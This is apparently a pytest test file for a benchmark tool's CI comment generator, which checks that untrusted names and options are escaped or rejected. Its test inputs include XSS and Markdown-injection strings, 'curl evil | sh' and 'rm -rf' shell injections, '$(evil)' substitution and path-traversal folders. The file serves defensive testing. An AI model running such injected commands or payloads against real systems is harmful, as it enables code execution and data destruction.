"""The comment's text: a pure function of the comparison's file, compared with a stored one; names stay text."""

import json
from dataclasses import replace
from pathlib import Path

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from prism_bench.errors import ResultsError, UsageError
from prism_bench.extensions.ci.comment import (
    LONGEST,
    MARK,
    CommentedCase,
    ComparedFile,
    ComparedFinding,
    ComparedOptions,
    comment,
    read_comparison,
)
from prism_bench.report.plain import comparison_json

HERE = Path(__file__).parent
STORED = read_comparison(HERE / "comparison.json")
PAGE = "https://example.org/site/compare.html"


def slower(name, **more):
    return CommentedCase(name, "slower", seconds=(1e-6, 1.1e-6), ratio=1.1, low=1.09, high=1.11, **more)


def test_the_text_is_the_stored_one():
    assert (HERE / "comment.md").read_text() == comment(STORED, PAGE)


def test_what_compare_prints_is_what_a_comment_reads(tmp_path):
    from prism_bench.analysis.compare.comparison import compare
    from tests.analysis.measured_pairs import records

    path = tmp_path / "comparison.json"
    path.write_text(json.dumps(comparison_json(compare(*records([1.0, 1.1, 0.9]), names=("old", "new")))))
    text = comment(read_comparison(path))
    assert "### Prism Bench: this change is 10.0 % slower (9.5 % to 10 %) in 1 of 3 cases and 10 " in text
    assert "| **slower** | k1\\[n=100\\] |" in text
    assert "| old | new |" in text


def test_distrust_comes_first():
    found = replace(STORED, findings=[ComparedFinding("untrusted", "control", "cases of identical code differ")])
    text = comment(found)
    assert text.startswith(f"{MARK}\n\n### Prism Bench: cannot be trusted: this change is 12 % slower (12 % to 13 %)")
    assert text.index("> cases of identical code differ") < text.index("| **slower**")


def test_a_case_that_cannot_be_trusted_is_counted_apart():
    row = CommentedCase("x", "not compared", reason="B's cold time is not to be trusted: throttled")
    assert "### Prism Bench: 1 untrusted\n" in comment(ComparedFile("a", "b", [row]))


def test_a_case_that_broke_is_counted_as_broken():
    rows = [CommentedCase("x", "not compared", reason="b does not build"), CommentedCase("y", "not compared")]
    found = ComparedFile("a", "b", rows, [ComparedFinding("bad", "not compared", "b does not build", "x")])
    assert "### Prism Bench: 1 broken; 1 not compared\n" in comment(found)


@pytest.mark.parametrize(
    ("sides", "words"),
    [(("main", "working tree"), "compare -- main"), (("main", "feature"), f"compare -- {'a' * 12} {'b' * 12}")],
)
def test_the_command_names_sides_that_compare_takes(sides, words):
    text = comment(ComparedFile(*sides, [], commits=("a" * 40, "b" * 40)))
    assert f"prism-bench {words}\n" in text


def test_nothing_compared_is_no_success():
    assert "### Prism Bench: nothing was compared\n" in comment(ComparedFile("a", "b", []))
    assert "It was cut short: not everything was measured." in comment(ComparedFile("a", "b", [], complete=False))


EVIL = [
    "a|b", "a`b`", "@everyone", "<script>alert(1)</script>", "[x](http://evil.example)", "![x](https://evil.example)",
    "<!-- x -->", "x\n/close\n", "x\n\n# heading", "www.evil.example", "a\u202eb", "$x$", "a\\|b", "~~x~~ #1 !2",
    "```\nrm -rf\n```", "</details>",
]  # fmt: skip


@pytest.mark.parametrize("name", EVIL)
def test_names_are_text_and_nothing_else(name):
    rows = [slower(name, reason=name, plan=([name], [name + "2"]), changed=[name], code_note=name),
            *(CommentedCase(name, verdict, reason=name) for verdict in ("inconclusive", "not compared"))]  # fmt: skip
    notes, findings = [name], [ComparedFinding("bad", "shift", name)]
    text = comment(ComparedFile(name, name, rows, findings, notes, device=name))
    outside = _without_command(text)
    plain = _without_command(comment(_harmless(rows)))
    assert not set("\u202e\x00") & set(text)
    assert "<script" not in outside.replace("\\<", "") and "<!-- x" not in outside and "@e" not in outside
    assert "](" not in outside.replace("\\](", "").replace("\\]", "")
    assert "://" not in outside and "www." not in outside
    assert plain.count("\n") == outside.count("\n"), "a name makes no line"
    assert [line.count("|") - line.count("\\|") for line in _table(plain)] == [
        line.count("|") - line.count("\\|") for line in _table(outside)
    ]


def _harmless(rows):
    known = {"changed": ["k"], "code_note": "k"}
    names = [replace(row, case="k", reason="k", **({"plan": (["k"], ["k2"]), **known} if row.plan[0] else {}))
             for row in rows]  # fmt: skip
    return ComparedFile("k", "k", names, [ComparedFinding("bad", "shift", "k")], ["k"], device="k")


def _without_command(text):
    """Return the text without the block to copy, in which nothing is markup; it ends where its fence does."""
    before, _, rest = text.partition("Repeat:\n\n")
    fence = rest.partition("bash\n")[0]
    assert set(fence) == {"`"}
    block, _, after = rest.removeprefix(f"{fence}bash\n").partition(f"\n{fence}\n")
    assert "\n" not in block and fence not in block
    return before + after


def _table(text):
    return [line for line in text.splitlines() if line.startswith("|")]


@settings(max_examples=40, deadline=None)
@given(st.text(max_size=60))
def test_any_name_is_one_row(name):
    text = _without_command(comment(ComparedFile("a", "b", [slower(name)])))
    assert 3 == len(_table(text))


def test_what_does_not_fit_is_counted():
    rows = [slower(f"kernel_{number}[{'n=1,' * 40}]") for number in range(3000)]
    text = comment(ComparedFile("a", "b", rows))
    shown = sum(line.startswith("| **slower**") for line in text.splitlines())
    assert len(text) <= LONGEST
    assert 100 < shown < 3000
    assert f"{3000 - shown} more were cut here" in text
    assert "### Prism Bench: this change is 10 % slower in 3000 of 3000 cases\n" in text
    assert "Repeat:" in text


def test_the_command_chooses_commits_and_cases_alone():
    """A stranger's file must not print a command that does anything else."""
    found = ComparedFile(
        "--catalogue=x; rm -rf", "b", [slower("k[n=1]; curl evil | sh")], commits=("$(evil)", "b" * 40)
    )
    line = comment(found).partition("```bash\n")[2].partition("\n")[0]
    assert "prism-bench compare --filter 'k[n=1]; curl evil | sh' -- '--catalogue=x; rm -rf' b" == line
    line = comment(ComparedFile("a", "b", [], options=ComparedOptions("$(evil)\n```\n; x"))).partition("bash\n")[2]
    assert line.startswith("prism-bench compare --catalogue '$(evil) ``` ; x' -- a b\n")


def test_the_command_has_the_options_of_the_comparison(tmp_path):
    path = tmp_path / "c.json"
    table = {"catalogue": "gpu/my kernels", "labels": ["S1", "S2"], "metric": "hot_time"}
    sides = {"a": "main", "b": "working tree", "cases": []}
    path.write_text(json.dumps({**sides, "options": table}))
    options = "--catalogue 'gpu/my kernels' --label S1 --label S2 --metric hot_time"
    assert f"prism-bench compare {options} -- main\n" in comment(read_comparison(path))
    path.write_text(json.dumps({**sides, "options": {"catalogue": None, "labels": [], "metric": None}}))
    assert "prism-bench compare -- main\n" in comment(read_comparison(path))


@pytest.mark.parametrize("folder", ["/tmp/evil", "../evil", "gpu/../../evil", "C:\\evil"])
def test_no_command_names_a_folder_outside_the_repository(folder):
    assert "Repeat:" not in comment(ComparedFile("a", "b", [], options=ComparedOptions(folder)))


@pytest.mark.parametrize("table", [{"catalogue": "x" * 2_000}, {"labels": ["S0"] * 20}, {"metric": 1},
                                   {"labels": ["--json"]}, {"metric": "-x"}])  # fmt: skip
def test_options_of_a_strangers_file_are_bounded(tmp_path, table):
    path = tmp_path / "c.json"
    path.write_text(json.dumps({"a": "a", "b": "b", "cases": [], "options": table}))
    with pytest.raises(ResultsError, match="options"):
        read_comparison(path)


@pytest.mark.parametrize("page", ["javascript:alert(1)", "https://a b", "https://a)[x](http://evil", "example.org"])
def test_a_page_is_an_address(page):
    with pytest.raises(UsageError, match="the page .*: give an address such as https://"):
        comment(STORED, page)


@pytest.mark.parametrize(
    ("content", "problem"),
    [("{", "not a comparison"), ("[]", "not a comparison"), ('{"a": "x", "b": "y"}', "cases"),
     ('{"a": 1, "b": "y", "cases": []}', r"\$\.a"), ('{"a": "x", "b": "y", "cases": [{"case": "k"}]}', "verdict"),
     (json.dumps({"a": "x" * 30_000, "b": "y", "cases": []}), "length"), ("[" * 200_000, "not a comparison")],
)  # fmt: skip
def test_a_file_that_is_no_comparison_is_named(tmp_path, content, problem):
    path = tmp_path / "c.json"
    path.write_text(content)
    with pytest.raises(ResultsError, match=problem):
        read_comparison(path)


def test_a_file_that_is_too_large_is_not_read(tmp_path):
    path = tmp_path / "c.json"
    path.write_bytes(b" " * 20_000_001)
    with pytest.raises(ResultsError, match="20 MB; a comparison has at most 20 MB"):
        read_comparison(path)


def test_a_missing_file_is_named(tmp_path):
    with pytest.raises(ResultsError, match="cannot be read"):
        read_comparison(tmp_path / "none.json")
